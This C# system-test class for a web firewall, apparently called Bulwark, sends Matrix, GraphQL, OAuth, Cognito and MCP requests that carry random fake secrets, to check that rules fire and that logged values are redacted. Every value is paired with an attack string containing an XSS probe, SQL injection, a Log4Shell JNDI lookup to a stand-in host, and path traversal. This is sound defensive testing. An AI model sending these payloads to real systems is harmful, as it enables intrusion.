using System.Net.Http.Headers;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Bulwark.SystemTests.Privacy;

/// <summary>Sends requests with secrets and texts of all kinds at all places, each beside an attack, so that rules match there.</summary>
internal sealed class Planting(HttpClient client)
{
    /// <summary>How many values one round plants at least.</summary>
    public const int ValuesOfRound = 50;

    private const string Attack = "<script>alert(1)</script>' OR 1=1-- ${jndi:ldap://192.0.2.1/x} ../../../../etc/hosts";
    private const string Room = "/_matrix/client/v3/rooms/!abc:localhost";

    private readonly List<PlantedValue> _planted = [];

    public IReadOnlyList<PlantedValue> Planted => _planted;

    /// <summary>How many requests were refused.</summary>
    public int Refused { get; private set; }

    /// <summary>One of everything.</summary>
    public async Task PlantAsync()
    {
        await PlantSignInsAsync();
        await PlantHeadersAsync();
        await PlantNamesAsync();
        await PlantBodiesAsync();
        await PlantTextsAsync();
    }

    private async Task PlantSignInsAsync()
    {
        await JsonAsync("POST", "/_matrix/client/v3/login", new JsonObject { ["type"] = "m.login.password", ["user"] = "alice", ["password"] = Secret("password at login"), ["token"] = Secret("token at login") });
        await JsonAsync("POST", "/_matrix/client/v3/register", new JsonObject { ["username"] = "bob", ["password"] = Word("password at registration"), ["auth"] = new JsonObject { ["session"] = Secret("session of registration"), ["response"] = Secret("answer to a captcha") } });
        await JsonAsync("POST", "/_matrix/client/v3/refresh", new JsonObject { ["refresh_token"] = Secret("refresh token") });
        await JsonAsync("POST", "/_matrix/client/v3/account/password", new JsonObject { ["new_password"] = Word("new password"), ["whatever"] = Word("made-up field of a new password") });
        await JsonAsync("POST", "/_matrix/client/v3/keys/device_signing/upload", new JsonObject { ["master_key"] = Secret("signing key") });
        await JsonAsync("PUT", "/_matrix/client/v3/sendToDevice/m.secret.send/1", new JsonObject { ["messages"] = new JsonObject { ["body"] = Secret("secret to a device") } });
        await FormAsync("/oauth2/token", new(StringComparer.Ordinal) { ["code"] = Secret("code"), ["code_verifier"] = Secret("code verifier"), ["client_assertion"] = Secret("assertion"), ["client_secret"] = Secret("client secret"), ["other"] = Word("made-up field of a token request") });
        await FormAsync("/login", new(StringComparer.Ordinal) { ["username"] = "alice", ["password"] = Word("password in a form") });
        await JsonAsync("POST", "/", new JsonObject { ["AuthFlow"] = "USER_PASSWORD_AUTH", ["AuthParameters"] = new JsonObject { ["PASSWORD"] = Word("password of Cognito") } }, target: "InitiateAuth");
        await JsonAsync("POST", "/", new JsonObject { ["ChallengeResponses"] = new JsonObject { ["SOFTWARE_TOKEN_MFA_CODE"] = Secret("one-time code") }, ["Session"] = Secret("session of Cognito") }, target: "RespondToAuthChallenge");
    }

    private async Task PlantHeadersAsync()
    {
        await AskAsync("GET", $"/_matrix/client/v3/sync?access_token={Query(Secret("access token in the query"))}");
        await AskAsync("GET", $"/_matrix/client/v3/search?loginToken={Query(Secret("login token in the query"))}&filter={Query(Secret("key in a filter"))}");
        await AskAsync("GET", $"{Room}/messages?from={Query($"https://example.org/?access_token={Word("token in a link")}")}");
        foreach (var (name, place) in new[] { ("Authorization", "access token"), ("Cookie", "cookie"), ("X-Api-Key", "API key"), ("X-Custom", "header"), ("X-Request-Id", "request ID"), ("Referer", "referrer"), ("Proxy-Authorization", "proxy password") })
            await AskAsync("GET", "/v1/graphql", request => request.Headers.TryAddWithoutValidation(name, $"session={Secret(place)}"));
    }

    private async Task PlantNamesAsync()
    {
        await AskAsync("GET", $"/_matrix/client/v3/rooms/{Query(Secret("part of a path"))}");
        await AskAsync("GET", $"/{Word("word in a path")}/wp-login.php?{Query(Word("name in a query"))}={Query(Attack)}");
        await AskAsync("GET", $"/wp-admin/{Word("last part of a path")}.php?x={Query(Attack)}");
        await AskAsync("GET", "/v1/graphql", request => request.Headers.TryAddWithoutValidation(Word("name of a header", isBare: true), Attack));
        await AskAsync("GET", "/v1/graphql", request => request.Headers.TryAddWithoutValidation("Cookie", $"{Word("name of a cookie", isBare: true)}={Attack}"));
        await AskAsync(Word("method", isBare: true).ToUpperInvariant(), "/v1/graphql");
        await JsonAsync("PUT", $"{Room}/send/m.room.message/1", new JsonObject { [Word("key of JSON", isBare: true)] = Attack, ["content"] = new JsonObject { [Secret("key of JSON with an attack")] = Attack } });
        await JsonAsync("PUT", $"{Room}/send/{Word("event type", isBare: true)}/1", new JsonObject { ["body"] = Attack });
        await FormAsync("/v1/graphql", new(StringComparer.Ordinal) { [Word("name of a form's field", isBare: true)] = Attack });
    }

    private async Task PlantBodiesAsync()
    {
        await JsonAsync("POST", "/v1/graphql", new JsonObject { ["query"] = "mutation($p: String!) { signIn(password: $p) { id } }", ["variables"] = new JsonObject { ["p"] = Word("variable of GraphQL"), ["text"] = Word("text that is a password") } });
        await JsonAsync("POST", "/v1/graphql", new JsonObject { ["query"] = $"mutation {{ signIn(password: \"{Word("password in a document")}\") {{ id }} }}" });
        await JsonAsync("POST", "/v1/graphql", new JsonObject { ["query"] = "{ a }", ["variables"] = new JsonObject { ["input"] = new JsonObject { ["pin"] = Word("PIN"), ["apiKey"] = Word("API key of GraphQL") } } });
        await RawAsync("PUT", $"{Room}/send/m.room.message/1", $$"""{"password":"{{Word("secret in broken JSON")}}","body":"{{Attack}}""", "application/json");
        await RawAsync("PUT", $"{Room}/send/m.room.message/1", Word("body of no type"), contentType: null);
        await RawAsync("PUT", $"{Room}/send/m.room.message/1", $"<a><token>{Word("secret in XML")}</token></a>", "application/xml");
        await JsonAsync("PUT", $"{Room}/send/m.room.message/1", new JsonObject { ["body"] = Convert.ToBase64String(Encoding.UTF8.GetBytes(Secret("key in base64"))) });
        await JsonAsync("PUT", $"{Room}/send/m.room.message/1", new JsonObject { ["body"] = $"my password is {Word("password in a message")}" });
        await JsonAsync("PUT", $"{Room}/send/m.room.message/1", new JsonObject { ["body"] = Secret("key in a message").ToUpperInvariant() });
        await JsonAsync("POST", "/mcp", new JsonObject { ["jsonrpc"] = "2.0", ["method"] = "tools/call", ["params"] = new JsonObject { ["arguments"] = new JsonObject { ["token"] = Word("token of MCP") } } });
    }

    private async Task PlantTextsAsync()
    {
        await JsonAsync("PUT", $"{Room}/send/m.room.message/1", new JsonObject { ["msgtype"] = "m.text", ["body"] = Text("message"), ["formatted_body"] = Text("formatted message") });
        await JsonAsync("PUT", $"{Room}/state/m.room.topic", new JsonObject { ["topic"] = Text("topic") });
        await JsonAsync("POST", "/v1/graphql", new JsonObject { ["query"] = "mutation($note: String!) { insert_notes(text: $note) { id } }", ["variables"] = new JsonObject { ["note"] = Text("text of GraphQL") } });
        await JsonAsync("POST", "/mcp", new JsonObject { ["jsonrpc"] = "2.0", ["method"] = "tools/call", ["params"] = new JsonObject { ["arguments"] = new JsonObject { ["text"] = Text("text of MCP") } } });
        await AskAsync("GET", "/v1/graphql", request => request.Headers.TryAddWithoutValidation("User-Agent", Text("user agent")));
        await RawAsync("POST", $"/_matrix/media/v3/upload?filename={Query(Text("file name"))}", "GIF89a", "image/gif");
        using var parts = new MultipartFormDataContent
        {
            { new StringContent(Text("field of a part")), "note" },
            { new StringContent(Word("secret in a part")), "password" },
            { new ByteArrayContent("GIF89a"u8.ToArray()), "file", Text("file name of a part").Replace('"', '\'') },
        };
        await SendAsync("POST", "/v1/graphql", parts, prepare: null);
    }

    /// <summary>A key as programs make them, with an attack behind it.</summary>
    private string Secret(string place) => $"{Plant(place, RandomNumberGenerator.GetString("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz", 4) + Convert.ToHexStringLower(RandomNumberGenerator.GetBytes(14)), isText: false)} {Attack}";

    /// <summary>A secret that people choose: letters that look like a word.</summary>
    private string Word(string place, bool isBare = false)
    {
        var word = Plant(place, RandomNumberGenerator.GetString("abcdefghijklmnopqrstuvwxyz", 14), isText: false);
        return isBare ? word : $"{word} {Attack}";
    }

    /// <summary>What people write to each other.</summary>
    private string Text(string place) => $"see you at {Plant(place, RandomNumberGenerator.GetString("abcdefghijklmnopqrstuvwxyz", 14), isText: true)} {Attack}";

    private string Plant(string place, string value, bool isText)
    {
        _planted.Add(new PlantedValue(place, value, isText));
        return value;
    }

    private static string Query(string value) => Uri.EscapeDataString(value);

    private Task JsonAsync(string method, string path, JsonObject body, string? target = null)
    {
        var content = new StringContent(body.ToJsonString(new JsonSerializerOptions { Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping }), Encoding.UTF8, "application/json");
        return SendAsync(method, path, content, request =>
        {
            if (target is not null)
                request.Headers.TryAddWithoutValidation("X-Amz-Target", $"AWSCognitoIdentityProviderService.{target}");
        });
    }

    private Task FormAsync(string path, Dictionary<string, string> fields) => SendAsync("POST", path, new FormUrlEncodedContent(fields), prepare: null);

    private Task RawAsync(string method, string path, string body, string? contentType) =>
        SendAsync(method, path, new StringContent(body) { Headers = { ContentType = contentType is null ? null : new MediaTypeHeaderValue(contentType) } }, prepare: null);

    private Task AskAsync(string method, string path, Action<HttpRequestMessage>? prepare = null) => SendAsync(method, path, content: null, prepare);

    private async Task SendAsync(string method, string path, HttpContent? content, Action<HttpRequestMessage>? prepare)
    {
        using var request = new HttpRequestMessage(new HttpMethod(method), new Uri(client.BaseAddress!, path)) { Content = content };
        prepare?.Invoke(request);
        if (!request.Headers.Contains("User-Agent"))
            request.Headers.TryAddWithoutValidation("User-Agent", "Element/1.11");

        using var answer = await client.SendAsync(request, TestContext.Current.CancellationToken);
        Refused += answer.StatusCode == System.Net.HttpStatusCode.Forbidden ? 1 : 0;
    }
}
